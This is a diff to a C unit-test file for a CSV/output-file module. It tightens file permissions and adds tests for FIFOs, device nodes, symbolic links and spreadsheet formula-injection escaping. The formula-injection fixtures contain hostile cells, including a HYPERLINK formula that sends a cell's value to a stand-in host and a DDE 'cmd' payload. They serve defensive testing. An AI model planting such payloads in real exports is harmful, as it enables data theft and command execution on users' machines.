@@ -15,7 +15,9 @@
 #include <criterion/redirect.h>
 #include <signal.h>
 #include <string.h>
+#include <pthread.h>
 #include <sys/stat.h>
+#include <sys/sysmacros.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -54,8 +56,8 @@ compare_names (gconstpointer a, gconstpointer b)
   return strcmp (*(const char *const *) a, *(const char *const *) b);
 }
 
-/* The names in the scratch directory, sorted, joined by spaces; temporaries
- * ("NAME.tmp-XXXXXX") shown as "NAME.tmp-*". */
+/* The names in the scratch directory, sorted, joined by spaces; rater's
+ * temporaries ("NAME.rater-tmp-XXXXXX") shown as "NAME.rater-tmp-*". */
 static char *
 listing (void)
 {
@@ -66,9 +68,9 @@ listing (void)
   cr_assert_not_null (d);
   while ((name = g_dir_read_name (d)))
     {
-      const char *tmp = strstr (name, ".tmp-");
-      if (tmp && strlen (tmp) == strlen (".tmp-XXXXXX"))
-        g_ptr_array_add (names, g_strdup_printf ("%.*s.tmp-*", (int) (tmp - name), name));
+      const char *tmp = strstr (name, ".rater-tmp-");
+      if (tmp && strlen (tmp) == strlen (".rater-tmp-XXXXXX"))
+        g_ptr_array_add (names, g_strdup_printf ("%.*s.rater-tmp-*", (int) (tmp - name), name));
       else
         g_ptr_array_add (names, g_strdup (name));
     }
@@ -149,7 +151,7 @@ Test (outfile, writes_a_temporary_beside_the_destination_and_renames_it_on_commi
   fputs ("a,b\n1,2\n", outfile_stream (out));
   cr_assert_eq (fflush (outfile_stream (out)), 0);
   cr_assert_not (g_file_test (path, G_FILE_TEST_EXISTS), "the destination exists before commit");
-  expect_listing ("report.csv.tmp-*");
+  expect_listing ("report.csv.rater-tmp-*");
 
   commit_ok (out);
   expect_contents (path, "a,b\n1,2\n");
@@ -182,7 +184,7 @@ Test (outfile, freeing_without_commit_removes_the_temporary_and_keeps_the_old_fi
   OutFile *b = open_ok (old, FALSE);
   fputs ("half a row,", outfile_stream (a));
   fputs ("replacement\n", outfile_stream (b));
-  expect_listing ("fresh.csv.tmp-* old.csv old.csv.tmp-*");
+  expect_listing ("fresh.csv.rater-tmp-* old.csv old.csv.rater-tmp-*");
   outfile_free (a);
   outfile_free (b);
 
@@ -217,7 +219,7 @@ Test (outfile, a_process_killed_half_way_leaves_no_output_only_a_temporary)
   cr_assert (WIFSIGNALED (status) && WTERMSIG (status) == SIGKILL, "child status %d", status);
 
   expect_contents (path, "the previous run\n");
-  expect_listing ("calls.csv calls.csv.tmp-*");
+  expect_listing ("calls.csv calls.csv.rater-tmp-*");
 }
 
 Test (outfile, a_failed_rename_reports_the_path_and_leaves_nothing_behind)
@@ -284,26 +286,34 @@ Test (outfile, a_read_only_directory_is_an_error_naming_the_path)
 
 /* Permissions {{{1 */
 
-Test (outfile, outputs_are_readable_by_all_not_mkstemp_private)
+Test (outfile, outputs_are_0640_under_umask_022)
 {
+  /* documents and exports hold personal data: the owner and the group
+   * read them, nobody else (cli.md), whatever the umask lets through */
   g_autofree char *path = path_in ("invoice.json");
   GStatBuf st;
 
   write_whole (path, "{}\n", FALSE);
   cr_assert_eq (g_stat (path, &st), 0);
-  cr_assert_eq (st.st_mode & 07777, 0644, "mode %o", (unsigned) (st.st_mode & 07777));
+  cr_assert_eq (st.st_mode & 07777, 0640, "mode %o", (unsigned) (st.st_mode & 07777));
 
-  /* replacing a private file gives the new one the same 0644 */
-  g_autofree char *priv = test_write (dir, "private.csv", "old\n");
-  cr_assert_eq (g_chmod (priv, 0600), 0);
-  write_whole (priv, "new\n", FALSE);
-  cr_assert_eq (g_stat (priv, &st), 0);
-  cr_assert_eq (st.st_mode & 07777, 0644, "mode %o", (unsigned) (st.st_mode & 07777));
+  /* replacing a world-readable file gives the new one 0640 too */
+  g_autofree char *open = test_write (dir, "open.csv", "old\n");
+  cr_assert_eq (g_chmod (open, 0644), 0);
+  write_whole (open, "new\n", FALSE);
+  cr_assert_eq (g_stat (open, &st), 0);
+  cr_assert_eq (st.st_mode & 07777, 0640, "mode %o", (unsigned) (st.st_mode & 07777));
+
+  /* a frozen document too */
+  g_autofree char *frozen = path_in ("INV-0001.pdf");
+  write_whole (frozen, "%PDF\n", TRUE);
+  cr_assert_eq (g_stat (frozen, &st), 0);
+  cr_assert_eq (st.st_mode & 07777, 0640, "mode %o", (unsigned) (st.st_mode & 07777));
 }
 
 /* outfile_mkdir {{{1 */
 
-Test (outfile, mkdir_creates_parents_with_mode_0755_and_accepts_an_existing_one)
+Test (outfile, mkdir_creates_parents_with_mode_0750_and_accepts_an_existing_one)
 {
   g_autofree char *deep = g_build_filename (dir, "a", "b", "c", NULL);
   g_autofree char *a = path_in ("a");
@@ -313,9 +323,9 @@ Test (outfile, mkdir_creates_parents_with_mode_0755_and_accepts_an_existing_one)
   cr_assert (outfile_mkdir (deep, &error), "%s", error ? error->message : "");
   cr_assert (g_file_test (deep, G_FILE_TEST_IS_DIR));
   cr_assert_eq (g_stat (a, &st), 0);
-  cr_assert_eq (st.st_mode & 07777, 0755, "mode %o", (unsigned) (st.st_mode & 07777));
+  cr_assert_eq (st.st_mode & 07777, 0750, "mode %o", (unsigned) (st.st_mode & 07777));
   cr_assert_eq (g_stat (deep, &st), 0);
-  cr_assert_eq (st.st_mode & 07777, 0755, "mode %o", (unsigned) (st.st_mode & 07777));
+  cr_assert_eq (st.st_mode & 07777, 0750, "mode %o", (unsigned) (st.st_mode & 07777));
   cr_assert (outfile_mkdir (deep, &error), "%s", error ? error->message : "");
 }
 
@@ -400,6 +410,88 @@ Test (outfile, a_plain_output_replaces_what_a_frozen_one_would_refuse)
   expect_contents (path, "{\"total\": 2}\n");
 }
 
+/* What is not a regular file {{{1
+ *
+ * A device or a FIFO is written directly, never replaced by a regular file
+ * (`--out /dev/null` as root renamed a file over the device); a symbolic
+ * link in an output directory is refused, neither followed nor replaced;
+ * "-" is standard output. */
+
+typedef struct {
+  char *path;
+  GString *got;
+} FifoReader;
+
+static void *
+read_fifo (void *p)
+{
+  FifoReader *r = p;
+  FILE *f = fopen (r->path, "r");
+  int c;
+  while (f && (c = fgetc (f)) != EOF)
+    g_string_append_c (r->got, (char) c);
+  if (f)
+    fclose (f);
+  return NULL;
+}
+
+Test (outfile, a_fifo_is_written_directly_not_replaced)
+{
+  g_autofree char *path = path_in ("pipe");
+  cr_assert_eq (mkfifo (path, 0600), 0);
+  FifoReader r = { path, g_string_new (NULL) };
+  pthread_t reader;
+  cr_assert_eq (pthread_create (&reader, NULL, read_fifo, &r), 0);
+
+  write_whole (path, "a,b\n", FALSE);
+  GStatBuf st;
+  cr_assert_eq (g_lstat (path, &st), 0);
+  cr_assert (S_ISFIFO (st.st_mode), "the FIFO was replaced (mode %o)", (unsigned) st.st_mode);
+  pthread_join (reader, NULL);
+  cr_assert_str_eq (r.got->str, "a,b\n");
+  g_string_free (r.got, TRUE);
+  expect_listing ("pipe");
+}
+
+Test (outfile, a_device_is_written_directly_not_replaced)
+{
+  if (geteuid () != 0)
+    cr_skip_test ("only root can make a device node (the case that replaced /dev/null)");
+  g_autofree char *path = path_in ("null");
+  cr_assert_eq (mknod (path, S_IFCHR | 0666, makedev (1, 3)), 0, "%s", g_strerror (errno));
+
+  write_whole (path, "discarded\n", FALSE);
+  write_whole (path, "discarded\n", TRUE);
+  GStatBuf st;
+  cr_assert_eq (g_lstat (path, &st), 0);
+  cr_assert (S_ISCHR (st.st_mode), "the device was replaced (mode %o)", (unsigned) st.st_mode);
+  expect_listing ("null");
+}
+
+Test (outfile, a_symbolic_link_is_refused_not_followed_or_replaced)
+{
+  g_autofree char *target = test_write (dir, "elsewhere.csv", "not ours\n");
+  g_autofree char *link = path_in ("calls.csv");
+  cr_assert_eq (symlink ("elsewhere.csv", link), 0);
+
+  for (int frozen = 0; frozen < 2; frozen++)
+    {
+      g_autoptr(GError) error = NULL;
+      OutFile *out = frozen ? outfile_open_frozen (link, &error) : outfile_open (link, &error);
+      cr_assert_null (out, "a symbolic link was opened for writing");
+      cr_assert (g_error_matches (error, RATER_ERROR, RATER_ERROR_CANTCREAT));
+      g_autofree char *want = g_strdup_printf ("cannot write '%s': it is a symbolic link (rater"
+                                               " neither follows nor replaces one: remove it or"
+                                               " give the real path)", link);
+      cr_assert_str_eq (error->message, want);
+    }
+  GStatBuf st;
+  cr_assert_eq (g_lstat (link, &st), 0);
+  cr_assert (S_ISLNK (st.st_mode));
+  expect_contents (target, "not ours\n");
+  expect_listing ("calls.csv elsewhere.csv");
+}
+
 /* Standard output {{{1 */
 
 static void
@@ -425,6 +517,19 @@ Test (outfile_stdout, a_null_path_writes_to_standard_output)
   expect_listing ("");
   fflush (stdout);
   cr_assert_stdout_eq_str ("a,b\n\"x,y\",7\n");
+}
+
+Test (outfile_stdout, a_dash_writes_to_standard_output)
+{
+  g_autoptr(OutFile) out = open_ok ("-", FALSE);
+
+  cr_assert_eq (outfile_stream (out), stdout);
+  fputs ("to stdout\n", outfile_stream (out));
+  commit_ok (out);
+  g_clear_pointer (&out, outfile_free);
+  expect_listing ("");
+  fflush (stdout);
+  cr_assert_stdout_eq_str ("to stdout\n");
 }
 
 /* CSV helpers {{{1 */
@@ -503,4 +608,55 @@ Test (outfile, csv_headers_ints_and_rows)
                          "first of its row\n"
                          "\n"
                          "a,b\n");
+}
+
+/* Formula injection {{{1
+ *
+ * A cell that a spreadsheet would take for a formula (it starts with =, +,
+ * -, @, tab or CR) gets a leading ' (OWASP), unless it is a plain number
+ * (^[+-]?[0-9]+(\.[0-9]+)?$: amounts, E.164 numbers), which stays as is;
+ * outfile_set_csv_raw (TRUE) writes every cell verbatim. */
+
+static void
+fill_hostile (OutFile *out)
+{
+  outfile_csv_field (out, "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", -1);
+  outfile_csv_field (out, "@SUM(A1:A9)", -1);
+  outfile_csv_field (out, "-2+3", -1);
+  outfile_csv_field (out, "+cmd|' /C calc'!A0", -1);
+  outfile_csv_field (out, "\tTAB", -1);
+  outfile_csv_field (out, "\rCR", -1);
+  outfile_csv_field (out, "=1,2", -1);
+  outfile_csv_field (out, "a=b", -1);
+  outfile_csv_end_row (out);
+  outfile_csv_field (out, "-12.50", -1);
+  outfile_csv_field (out, "+442071234567", -1);
+  outfile_csv_int (out, -42);
+  outfile_csv_field (out, "0.000001", -1);
+  outfile_csv_field (out, "-", -1);
+  outfile_csv_field (out, "-1.", -1);
+  outfile_csv_field (out, "+1e5", -1);
+  outfile_csv_field (out, "--1", -1);
+  outfile_csv_end_row (out);
+}
+
+Test (outfile, csv_cells_that_look_like_formulas_are_neutralised)
+{
+  g_autofree char *csv = csv_of (fill_hostile);
+  cr_assert_str_eq (csv, "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",'@SUM(A1:A9),"
+                         "'-2+3,'+cmd|' /C calc'!A0,'\tTAB,\"'\rCR\",\"'=1,2\",a=b\n"
+                         "-12.50,+442071234567,-42,0.000001,'-,'-1.,'+1e5,'--1\n");
+}
+
+Test (outfile, csv_raw_mode_writes_cells_verbatim)
+{
+  outfile_set_csv_raw (TRUE);
+  g_autofree char *csv = csv_of (fill_hostile);
+  outfile_set_csv_raw (FALSE);
+  cr_assert_str_eq (csv, "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",@SUM(A1:A9),"
+                         "-2+3,+cmd|' /C calc'!A0,\tTAB,\"\rCR\",\"=1,2\",a=b\n"
+                         "-12.50,+442071234567,-42,0.000001,-,-1.,+1e5,--1\n");
+  g_autofree char *again = csv_of (fill_hostile);
+  cr_assert_eq (again[0], '"');
+  cr_assert_eq (again[1], '\'', "raw mode stayed on");
 }
